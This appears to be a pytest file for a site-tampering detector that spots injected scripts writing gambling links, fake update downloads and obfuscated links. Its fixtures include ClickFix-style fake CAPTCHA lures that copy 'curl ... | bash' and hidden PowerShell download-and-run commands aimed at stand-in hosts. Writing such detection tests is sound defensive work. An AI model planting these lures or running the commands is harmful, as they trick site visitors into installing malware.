import pytest

from app.domain.tampering import TamperSign
from app.engines.analyse.own_site.own_written import examine_written, writes
from app.engines.html.marks import find_marks
from app.engines.html.own_page import OwnText

URL = "https://www.school.example/"
WRITTEN = r"document.write('<a href=\"http://play.foreign.example/\">\u767e\u5bb6\u4e50</a>')"
MADE = "var a=document.createElement('a');a.href='http://play.foreign.example/';a.textContent='百家乐'"


def offer_in(text):
    return ("百家乐", ("百家乐",)) if "百家乐" in text else None


def signs(code, *, known=()):
    found = examine_written([OwnText(code, "html > script")], URL, lambda host: host in known, offer_in)
    return [(one.sign, one.leads_to, one.snippet) for one in found]


@pytest.mark.parametrize(
    "code", [WRITTEN, MADE, WRITTEN.replace("document.write(", "b.insertAdjacentHTML('beforeend',")]
)
def test_a_script_that_writes_foreign_links_with_words_of_a_trade(code):
    assert signs(code) == [(TamperSign.SCRIPT_WRITES, ("http://play.foreign.example",), "百家乐")]


@pytest.mark.parametrize(
    "code",
    [
        r"var t='\u767e\u5bb6\u4e50';d.innerHTML='<a href=\'http\x73:\x2f\x2fplay.foreign.example\x2f\'>'+t+'</a>'",
        "document.write('<title>百家乐</title><scr'+'ipt src=\"//pl'+'ay.foreign'+'.example/x.js\"></scr'+'ipt>')",
    ],
)
def test_what_a_script_puts_together_is_read_as_it_will_be_written(code):
    assert [(sign, leads_to[0].partition("//")[2]) for sign, leads_to, _ in signs(code)] == [
        (TamperSign.SCRIPT_WRITES, "play.foreign.example")
    ]


@pytest.mark.parametrize(
    "code",
    [
        WRITTEN.replace("play.foreign.example", "news.school.example"),  # own links
        WRITTEN.replace(r"\u767e\u5bb6\u4e50", "Partners"),
        WRITTEN.replace("<a href", "<img src"),  # a counter
        "window.state={url:'http://play.foreign.example/',title:'百家乐'}",  # nothing is written
    ],
)
def test_own_links_partners_counters_and_states_are_none(code):
    assert signs(code) == []


def test_links_to_a_well_known_service_are_none():
    assert signs(WRITTEN, known=("play.foreign.example",)) == []


def test_pages_whose_scripts_cannot_write_are_told_by_their_marks():
    assert writes(find_marks(WRITTEN.lower().encode()))
    assert not writes(find_marks(b"window.state={}"))


UPDATE = (
    "var m=document.createElement('div');m.innerHTML='<b>您的播放器版本过低</b>"
    '<a href="https://dl.foreign.example/setup.exe">立即升级</a>\';document.body.appendChild(m)'
)
PROOF = (
    "d.body.insertAdjacentHTML('beforeend','<p>Verify you are human: press Windows + R</p>');"
    "t.value='powershell -w hidden https://cdn.foreign.example/v';t.select();d.execCommand('copy')"
)


@pytest.mark.parametrize(("code", "word"), [(UPDATE, "版本过低"), (PROOF, "Verify you are human")])
def test_a_script_that_makes_visitors_run_something_under_a_pretence_is_a_sign(code, word):
    (found,) = examine_written([OwnText(code, "html > script")], URL, lambda _: False, lambda _: None)
    assert found.sign is TamperSign.SCRIPT_WRITES
    assert word in found.snippet


@pytest.mark.parametrize(
    "code",
    [
        UPDATE.replace("dl.foreign.example", "dl.school.example"),
        UPDATE.replace("版本过低", "下载").replace("立即升级", "安装包"),
        UPDATE.replace("setup.exe", "news"),
        PROOF.replace("Verify you are human", "Install it"),
        PROOF.replace("d.execCommand('copy')", ""),
    ],
)
def test_installers_updates_of_the_site_and_commands_to_copy_are_none(code):
    assert signs(code) == []


JQUERY = (
    "$(function(){$('body').prepend('<div><h1>Your browser is out of date</h1>"
    '<a href="https://files.foreign.example/update.msi">Update</a></div>\')})'
)
PASTED = (
    "box.innerHTML='<p>Prove you are not a robot</p><ol><li>Open the Terminal</li>"
    "<li>Press <b>Cmd</b> + <b>V</b></li></ol>';"
    "navigator.clipboard.writeText('curl -s cdn.foreign.example/v | bash')"
)


def test_what_jquery_writes_is_read():
    assert [sign for sign, _, _ in signs(JQUERY)] == [TamperSign.SCRIPT_WRITES]
    assert signs(JQUERY.replace("update.msi", "update.html")) == []
    assert writes(find_marks(JQUERY.lower().encode()))


def test_a_command_in_the_clipboard_needs_no_address_below_a_pretence():
    assert [sign for sign, _, _ in signs(PASTED)] == [TamperSign.SCRIPT_WRITES]


@pytest.mark.parametrize(
    ("said", "instead"),
    [("Prove you are not a robot", "Install the client"), ("curl -s cdn.foreign.example/v | bash", "SAVE10")],
)
def test_instructions_with_a_copy_button_are_no_pretence(said, instead):
    assert signs(PASTED.replace(said, instead)) == []


def test_properties_in_brackets_are_read():
    code = "document['write'](String['fromCharCode'](" + ",".join(str(ord(c)) for c in MARKUP) + "))"
    assert [sign for sign, _, _ in signs(code)] == [TamperSign.SCRIPT_WRITES]
    assert writes(find_marks(code.lower().encode()))


MARKUP = '<a href="http://play.foreign.example/">百家乐</a>'


EMPTY = '""'


def test_scripts_that_run_something_are_read_up_to_a_limit():
    """They cost most, and leave before anything is said of links."""
    joined = f"[{','.join([EMPTY] * 11)}].join('{'b' * 500}');" * 115
    scripts = [OwnText(f"var n{number};innerHTML='.exe';{joined}", "html > script") for number in range(40)]
    read = []

    def one_by_one():
        for script in scripts:
            read.append(script)
            yield script

    assert list(examine_written(one_by_one(), URL, lambda _: False, offer_in)) == []
    assert len(read) < 10


HIDDEN = (
    "var l=atob('aHR0cHM6Ly9kbC5mb3JlaWduLmV4YW1wbGUv');document.body.innerHTML='<a href=\"'+l+'Setup.zip\">Laden</a>'"
)


def test_a_program_of_a_host_that_cannot_be_read_is_a_sign_in_any_language():
    ((sign, leads_to, _),) = signs(HIDDEN)
    assert (sign, leads_to) == (TamperSign.SCRIPT_WRITES, ("https://dl.foreign.example/Setup.zip",))


@pytest.mark.parametrize(
    "code",
    [
        HIDDEN.replace("Setup.zip", "manual.html"),
        HIDDEN.replace("atob('aHR0cHM6Ly9kbC5mb3JlaWduLmV4YW1wbGUv')", "'https://dl.foreign.example/'"),
        HIDDEN.replace("aHR0cHM6Ly9kbC5mb3JlaWduLmV4YW1wbGUv", "aHR0cHM6Ly9kbC5zY2hvb2wuZXhhbXBsZS8="),
    ],
)
def test_own_programs_and_hosts_that_can_be_read_are_none(code):
    assert signs(code) == []


def test_an_e_mail_address_of_the_site_is_disguised_in_honesty():
    mail = r"document.write('\\x3c\\x70\\x3e\\x20 \u767e\u5bb6\u4e50 office@%s')"
    assert signs(mail.replace("\\\\", "\\") % "mail.school.example") == []
    assert signs(mail.replace("\\\\", "\\") % "mail.foreign.example")
